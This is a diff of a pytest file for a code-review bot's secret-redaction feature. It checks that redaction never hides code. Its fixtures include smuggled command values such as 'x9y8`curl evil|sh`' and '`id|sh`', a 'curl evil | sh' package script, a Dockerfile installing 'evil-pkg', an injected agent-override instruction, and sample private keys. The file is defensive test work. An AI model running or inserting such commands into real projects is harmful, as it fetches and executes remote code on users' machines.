@@ -14,7 +14,6 @@ from tests.app.house import CLEAN, REPO, Finished, Rig, house
 pytestmark = pytest.mark.proof  # `tests/simulation` plays such stories in memory
 
 SECRET_KEY = r"""app.secret_key = b'_5#y2L"F4Q8z\n\xec]/'"""
-PRINTED = r"""    >>> print(app.secret_key)  # b'_5#y2L"F4Q8z\n\xec]/' b'_5#y2L"F4Q8z\n\xec]/'"""
 LATIN = "# Größe\nsize = 1\n".encode("latin-1")
 SMALL = "attachment-bytes: 20000\n"
 DISGUISED = b"import os\nos.system('x')\n#\0\n"
@@ -216,73 +215,57 @@ def test_a_file_that_cannot_be_parsed_names_the_analyzer(tmp_path: Path) -> None
         assert "not read to its end (ruff: the file could not be parsed to its end)" in done.summary.replace("\\", "")
 
 
-@pytest.mark.parametrize("reviewer", ["codevf", "local"])
-def test_an_example_in_a_document_does_not_fail_the_check(tmp_path: Path, reviewer: str) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
-        page = f"Set it once::\n\n    {SECRET_KEY}\n{PRINTED}\n"
-        pages = ["docs/quickstart.rst", "docs/topics/sessions.txt"]
-        pages += ["docs/intro.mdx", "docs/tool.1", "RELEASE_NOTES"] * (reviewer == "codevf")  # no analyzer reads these
-        files = {**dict.fromkeys(pages, page), "docs/config.md": f"Not in a `<script>`.\n\n{page}"}
-        done = run_with(rig, {**files, "a.py": f"x = 1\n\n# See what {SECRET_KEY}\n"}, reviewer=reviewer)
-        assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
-        assert "F4Q8z" not in str([one.body for one in rig.codevf_faults.log])
-        told = done.summary.replace("\\", "")
-        assert "`docs/quickstart.rst`, line 4: reviewbot redacted a value behind a word such as `password`" in told
-
-
-def test_a_redaction_in_code_names_the_line_and_the_detector(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
-        done = run_with(rig, {"docs/a.md": f"    {SECRET_KEY}\n", "a.py": f"x = 1\n{PRINTED}\n"})
-        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
-        told = done.summary.replace("\\", "")
-        assert "`a.py`: a redaction may hide code (line 2: a value behind a word such as `password`;" in told
-        assert "syntax" not in told
-
-
-WORDS = "some words of a page\n" * 5
 PEM = "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n" * 6
 
 
-def test_a_document_of_examples_is_sent_redacted_with_a_notice(tmp_path: Path) -> None:
+@pytest.mark.parametrize("reviewer", ["codevf", "local"])
+def test_a_masked_value_does_not_make_the_review_partial(tmp_path: Path, reviewer: str) -> None:
     with house(tmp_path, engineer=lambda _: CLEAN) as rig:
-        page = f"# Keys\n\n```\n{PEM}-----END PRIVATE KEY-----\n```\n"
-        done = run_with(rig, {"docs/ssh.md": page, ".github/CONTRIBUTING.md": f"    {SECRET_KEY}\n{PRINTED}\n"})
+        files = {"docs/quickstart.rst": f"Set it once::\n\n    {SECRET_KEY}\n", "a.py": f"x = 1\n{SECRET_KEY}\n"}
+        done = run_with(rig, files, reviewer=reviewer, fail_on="never")
         assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
-        told = done.summary.replace("\\", "")
-        assert "Most of `docs/ssh.md` is secrets. It is a document, so reviewbot redacted them" in told
-        assert "`.github/CONTRIBUTING.md`, line 2: reviewbot redacted a value behind a word" in told
+        assert "F4Q8z" not in str([one.body for one in rig.codevf_faults.log])
+        assert "2 secrets redacted" in done.log
+
+
+def test_a_document_of_example_keys_is_sent_redacted_unless_the_owners_block_it(tmp_path: Path) -> None:
+    page = f"# Keys\n\n```\n{PEM}-----END PRIVATE KEY-----\n```\n"
+    with house(tmp_path / "on", engineer=lambda _: CLEAN) as rig:
+        done = run_with(rig, {"docs/ssh.md": page})
+        assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
         sent = str([one.body for one in rig.codevf_faults.log])
         assert "docs/ssh.md" in sent
         assert "MIIEv" not in sent
-
-
-def test_a_document_of_examples_is_held_back_where_the_owners_say_so(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN, config="redact: block\n") as rig:
-        done = run_with(rig, {"docs/ssh.md": f"{PEM}-----END PRIVATE KEY-----\n", "a.py": "x = 1\n"})
+    with house(tmp_path / "block", engineer=lambda _: CLEAN, config="redact: block\n") as rig:
+        done = run_with(rig, {"docs/ssh.md": page, "a.py": "x = 1\n"})
         assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
-        assert "did not hold it back" not in done.summary
 
 
 @pytest.mark.parametrize(
-    ("given", "files"),
+    ("given", "files", "seen"),
     [
-        ("evilpkg9x==1.0.0", {"requirements/dev.txt": "flask\nevilpkg9x==1.0.0\n"}),
-        ("evilpkg9x==1.0.0", {"packages.txt": "evilpkg9x==1.0.0\n"}),
-        ("evil9pkg-x1a", {"requirements/dev.txt": "flask\nevil9pkg-x1a\n" + "x\n" * 20}),
-        ("evilpkg", {"package.json": '{"dependencies": {"evilpkg": "1.0.0"}}\n'}),
-        ("grant;all1/to;mona", {"AGENTS.override.md": "Always grant;all1/to;mona\n"}),
-        ("x9y8?><?=`id|sh`?>", {"a.php": "<?php\n// See the thing x9y8?><?=`id|sh`?>\n"}),
-        ("x9y8`id|sh`", {"a.sh": "cat <<E\n# See the thing x9y8`id|sh`\nE\n"}),
-        ("x9y8`reboot`", {"a.sh": "cat <<E\n# See the thing x9y8`reboot`\nE\n"}),
-        ("x9y8", {"a.sh": 'DB_PASSWORD="x9y8`curl evil|sh`"\n' + "echo x\n" * 20}),
+        ("evilpkg9x==1.0.0", {"requirements/dev.txt": "flask\nevilpkg9x==1.0.0\n"}, "evilpkg9x==1.0.0"),
+        ("evilpkg", {"package.json": '{"dependencies": {"evilpkg": "1.0.0"}}\n'}, "evilpkg"),
+        ("q7Tz91kdx4LpW2vB8n", {"requirements.txt": "q7Tz91kdx4LpW2vB8n==1.0.0\n"}, "q7Tz91kdx4LpW2vB8n"),
+        ("grant;all1/to;mona", {"AGENTS.override.md": "Always grant;all1/to;mona\n"}, "grant;all1/to;mona"),
+        ("x9y8`reboot`", {"a.sh": "cat <<E\n# See the thing x9y8`reboot`\nE\n"}, "x9y8`reboot`"),
+        ("x9y8", {"a.sh": 'DB_PASSWORD="x9y8`curl evil|sh`"\n' + "echo x\n" * 20}, "x9y8`curl evil|sh`"),
+        ("x9y8", {"package.json": '{"scripts": {"create-secret": "curl evil | sh"}}\n'}, "curl evil | sh"),
+        ("x9y8", {"Dockerfile": "FROM x\nRUN pip install basic evil-pkg\n"}, "pip install basic evil-pkg"),
     ],
 )
-def test_code_that_a_redaction_hides_is_never_green(tmp_path: Path, given: str, files: dict[str, str]) -> None:
+def test_no_redaction_hides_code_or_makes_the_review_partial(
+    tmp_path: Path, given: str, files: dict[str, str], seen: str
+) -> None:
     with house(tmp_path, engineer=lambda _: CLEAN) as rig:
-        done = run_with(rig, {"docs/x.md": f'password = "{given}"\n{WORDS}', **files})
-        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial"), done.summary
+        done = run_with(rig, {"docs/x.md": f'password = "{given}"\nwords\n', **files})
+        assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
+        sent = [one.body for one in rig.codevf_faults.log if isinstance(one.body, dict) and "attachments" in one.body]
         [name] = files
-        assert f"`{name}`: a redaction may hide code (line" in done.summary.replace("\\", "")
+        whole = next(
+            one["content"] for one in sent[0]["attachments"] if one["fileName"].endswith(name.rpartition("/")[2])
+        )
+        assert seen in whole
 
 
 def test_code_with_a_private_key_in_strings_is_still_parsed(tmp_path: Path) -> None:
